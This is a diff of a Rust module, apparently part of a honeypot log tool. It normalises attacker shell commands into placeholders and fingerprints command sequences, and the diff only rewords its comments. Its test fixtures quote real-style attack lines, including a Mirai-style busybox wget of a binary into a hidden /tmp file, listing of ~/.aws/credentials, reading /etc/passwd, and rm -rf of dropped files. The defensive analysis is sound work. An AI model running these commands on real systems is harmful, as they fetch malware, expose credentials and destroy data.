@@ -1,26 +1,26 @@
-//! Commands without what varies between runs of one attack: addresses, links, keys, passwords, names of
-//! dropped files.
+//! Normalises commands: replaces what varies between runs of one attack, i.e. addresses, links, keys,
+//! passwords and names of dropped files.
 //!
-//! | placeholder  | stands for |
+//! | placeholder  | replaces   |
 //! |--------------|------------|
 //! | `<url>`      | a link; an address or, for `wget` and `curl`, a host with or without a path |
 //! | `<ip>`       | an IPv4 or IPv6 address, with its port; a host that `tftp` or `ftpget` is given |
 //! | `<email>`    | a name, `@` and a host's name |
-//! | `<hex>`      | bytes written as `\x7f` or `\177`, with what is printable between them; 8 or more hexadecimal digits |
+//! | `<hex>`      | bytes written as `\x7f` or `\177`, with printable characters between them; 8 or more hexadecimal digits |
 //! | `<base64>`   | 24 or more characters of base64 |
-//! | `<sshkey>`   | the blob of an SSH public key; its type and comment stay, they name who planted it |
-//! | `<password>` | what is echoed into `passwd` or `chpasswd`, given to `useradd -p`, `sshpass -p`, `openssl passwd`, `curl -u` or any `--password`, or noted in `/tmp/up.txt`; a password's hash |
-//! | `<file>`     | a path outside the system's directories, or hidden or random in one; a bare name that is fetched, run, removed, redirected to or made executable; a name that ends as a script, program or archive does |
-//! | `<random>`   | a name no one would give, and what busybox is asked for and does not have |
+//! | `<sshkey>`   | the blob of an SSH public key; its type and comment stay, because they identify the attacker |
+//! | `<password>` | what is echoed into `passwd` or `chpasswd`, given to `useradd -p`, `sshpass -p`, `openssl passwd`, `curl -u` or any `--password`, or written to `/tmp/up.txt`; a password's hash |
+//! | `<file>`     | a path outside the system's directories, or a hidden or random one within; a bare name that is fetched, run, removed, redirected to or made executable; a name with the extension of a script, program or archive |
+//! | `<random>`   | a random name, and an applet that busybox does not have |
 //! | `<n>`        | a number that is a word of its own |
 //!
 //! These stay: case, flags (`-9`, `-n1`), variables and `$4`, modes after `chmod`, numbers of streams
-//! (`2>&1`), paths and names of the system's own (`/proc/cpuinfo`, `~/.ssh/authorized_keys`). White space is
-//! one space, a line's end is `␤`, a placeholder that follows itself is written once, control characters are
-//! shown as their pictures. What a name is follows from its command alone: an attack that fetches `sh` and
-//! one that fetches `x` are the same.
+//! (`2>&1`), and the system's own paths and names (`/proc/cpuinfo`, `~/.ssh/authorized_keys`). Runs of white
+//! space become one space, a line end becomes `␤`, a repeated placeholder is written once, and control
+//! characters become their Unicode pictures. Whether a name is a file depends only on its own command line: an
+//! attack that fetches `sh` and one that fetches `x` give the same result.
 //!
-//! **Invariant**: normalising twice is normalising once, for any text, in time linear in its length.
+//! **Invariant**: normalising is idempotent, for any text, and takes time linear in its length.
 
 mod known;
 mod program;
@@ -29,17 +29,17 @@ mod word;
 
 use std::borrow::Cow;
 
-/// Counts changes of what [`normalise`] gives; kept beside every value derived from it.
+/// Incremented whenever [`normalise`] gives other results; stored beside every value derived from it.
 pub const VERSION: i16 = 1;
 
-/// The command with placeholders for what varies between runs of one attack; at most 4 KiB, and `<cut>` where
-/// there was more.
+/// Replaces what varies between runs of one attack by placeholders. The result has at most 4 KiB; a longer
+/// one ends with `<cut>`.
 pub fn normalise(command: &str) -> Cow<'_, str> {
     let normal = scan::Scanner::new(command).run();
     if normal == command { Cow::Borrowed(command) } else { Cow::Owned(normal) }
 }
 
-/// The identity of a sequence of commands: of each, as [`normalise`] gives it, and of their order.
+/// The fingerprint of a sequence of commands: of each command, normalised, and of their order.
 pub fn sequence_fingerprint<'a>(commands: impl IntoIterator<Item = &'a str>) -> [u8; 16] {
     let mut hasher = blake3::Hasher::new();
     hasher.update(b"cowriestream sequence v1");
@@ -61,9 +61,9 @@ mod tests {
     const KEY: &str =
         "AAAAB3NzaC1yc2EAAAADAQABAAABAQC7d1Jx0pXw4mQ9vR2sT8uK3nLfYbH6oZ5cGqEiVtWa+DSkM/PrNyUjBhXlOeCz";
 
-    /// Each is the first of a kind seen in real logs, with other names.
+    /// One example for each kind seen in real logs, with other names.
     const ATTACKS: &[(&str, &str)] = &[
-        // Mirai and its children.
+        // Mirai and its descendants.
         ("/bin/busybox QWERT", "/bin/busybox <random>"),
         (
             "/bin/busybox wget http://198.51.100.7:8080/bins/x.arm7 -O /tmp/.x; /bin/busybox ZXCVB",
@@ -155,7 +155,7 @@ mod tests {
             "echo <password> > <file>; rm -rf <file>",
         ),
         ("cat /etc/passwd | grep root", "cat /etc/passwd | grep root"),
-        // What stays tells attacks apart.
+        // What distinguishes attacks stays.
         (
             "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
             "cat /proc/cpuinfo | grep name | head -n <n> | awk '{print $4,$5,$6,$7,$8,$9;}'",
@@ -170,7 +170,7 @@ mod tests {
         ("/ip cloud print", "/ip cloud print"),
         ("sed 's/^ *//;s/ *$//' | sha256sum", "sed 's/^ *//;s/ *$//' | sha256sum"),
         ("ls /usr/lib64/ /etc/init.d/.hid3 ~/.aws/credentials", "ls /usr/lib64/ <file> ~/.aws/credentials"),
-        // Addresses and forms.
+        // Addresses and numbers.
         (
             "ping ::1; ping fe80::1%eth0; nc 2001:db8::7 80; date 12:30:45; nc 192.0.2.1:22",
             "ping <ip>; ping <ip>%eth0; nc <ip> <n>; date <n>:<n>:<n>; nc <ip>",
@@ -209,7 +209,7 @@ mod tests {
         assert!(normal.ends_with(" uname <cut>") && normal.len() <= scan::LIMIT + 6);
         assert_eq!(normalise(&normal), normal);
         assert_eq!(normalise(&"é".repeat(5_000)), "<cut>");
-        // What follows a `$` decides whether it is a password, and may be what is cut.
+        // Whether a word is a password depends on the character after `$`, which may be cut off.
         for length in 4_070..4_100 {
             let normal =
                 normalise(&format!("{}useradd -p $(a", "x;".repeat(length / 2) + &"y".repeat(length % 2)))
@@ -227,7 +227,7 @@ mod tests {
         assert_eq!(format!("{:032x}", u128::from_be_bytes(first)), "2d61910dcb321a7556e3c2dca9b2c871");
     }
 
-    /// Time that grows faster than the text would show as a test that does not end.
+    /// If the time grew faster than the text, this test would not end.
     #[test]
     fn nothing_is_looked_at_again_and_again() {
         for piece in [
